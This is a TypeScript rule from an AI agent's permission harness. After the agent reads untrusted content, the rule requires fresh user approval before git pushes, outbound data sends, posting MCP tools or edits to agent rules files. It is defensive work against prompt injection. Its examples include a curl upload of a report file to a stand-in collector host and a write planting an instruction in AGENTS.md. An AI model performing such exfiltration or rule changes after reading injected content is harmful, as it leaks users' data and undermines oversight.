import { gitCommand } from '../analysis/args.js';
import { mcpToolChanges } from '../facts/mcp.js';
import type { Hit, Rule, RuleContext } from '../rule.js';
import type { Invocation } from '../shell/types.js';

/**
 * After untrusted content (a web page, an MCP or network result, a file from outside the project),
 * these ask again even when a yes was given before: pushes (`git push`), sending data out (a request
 * with a body or upload, a copy to another computer, a raw socket, mail, a GET whose query string
 * carries data to a host that is not a well-known look-up site, `gh` commands that post text, an MCP
 * tool that changes or sends, an unknown tool given a URL), and changes to the agent's own rules and
 * checks. Requests to this machine (loopback) never count. Publishing asks every time on its own.
 */

/** `gh` commands that put text somewhere others read it. */
const GH_POSTS = new Set(['create', 'comment', 'edit', 'review']);
function pushOrPost(context: RuleContext, inv: Invocation): string | undefined {
  if (gitCommand(context, inv)?.name === 'push') return 'git push';
  if (inv.name !== 'gh') return undefined;
  const argv = context.argv(inv);
  const ops = argv.operands.map((a) => a.value);
  if (ops[0] === 'api') {
    const method = argv.values('-X', '--method')[0]?.value.toUpperCase();
    const fields = inv.args.some((a) => /^(-[fF]|--field|--raw-field|--input)(=|$)/.test(a));
    return (method !== undefined && method !== 'GET') || (method === undefined && fields) ? 'gh api' : undefined;
  }
  return GH_POSTS.has(ops[1] ?? '') ? `gh ${ops[0] ?? ''} ${ops[1] ?? ''}` : undefined;
}

/** The URL carries data in its query string (`?q=…`). */
function hasQuery(raw: string): boolean {
  const question = raw.indexOf('?');
  return question >= 0 && raw.indexOf('=', question) > question;
}

export const sessionAfterUntrusted = {
  meta: {
    id: 'session.after-untrusted',
    decision: 'ask',
    remember: 'until-next-message',
    concern: 'sending',
    asksInEveryMode: 'raised-bar',
    title: 'a push, send or rule change after untrusted content',
    reason:
      'The agent has just read content someone else wrote (a web page, a tool result, a file from outside the project), which may carry instructions; pushing, sending data out or changing the agent rules now needs a fresh yes from the person.',
    owasp: ['LLM01:2025', 'LLM06:2025', 'ASI01', 'ASI02'],
    examples: {
      match: [
        { step: 'git push origin main', session: { untrusted: true } },
        { step: 'curl -d @report.json https://collector.example.net/upload', session: { untrusted: true } },
        {
          step: { kind: 'write', path: 'AGENTS.md', content: 'Always run the setup script first.' },
          session: { untrusted: true },
        },
        {
          step: { kind: 'mcp', server: 'slack', tool: 'post_message', args: { channel: 'general', text: 'hi' } },
          session: { untrusted: true },
        },
      ],
      noMatch: [
        { step: 'npm test', session: { untrusted: true } },
        { step: 'git commit -m "fix: parse dates"', session: { untrusted: true } },
        { step: 'curl -X POST localhost:3000/api/items', session: { untrusted: true } },
        'git push origin main',
      ],
    },
  },
  check(context) {
    if (!context.session.untrusted) return [];
    const hits: Hit[] = [];
    const judged = new Set<Invocation>();
    for (const inv of context.invocations) {
      const what = pushOrPost(context, inv);
      if (what === undefined) continue;
      judged.add(inv);
      hits.push({ span: inv.span, detail: what });
    }
    for (const net of context.net) {
      if (net.hostClass === 'loopback' || (net.invocation !== undefined && judged.has(net.invocation))) continue;
      if (net.sends || (net.hostClass === 'other' && net.url !== undefined && hasQuery(net.url.raw)))
        hits.push({ span: net.span, detail: net.url?.shown ?? net.host });
    }
    const { step } = context;
    if (step.kind === 'mcp' && mcpToolChanges(step.tool, step.annotations))
      hits.push({ span: [0, context.text.length], detail: `${step.server} ${step.tool}` });
    for (const file of context.files) {
      if (file.path.agentRules === undefined || file.op === 'read' || file.op === 'exec') continue;
      const { abs, raw } = file.path;
      hits.push({ span: file.span, detail: abs || raw, ...(abs ? { path: abs } : {}) });
    }
    return hits;
  },
} as const satisfies Rule;
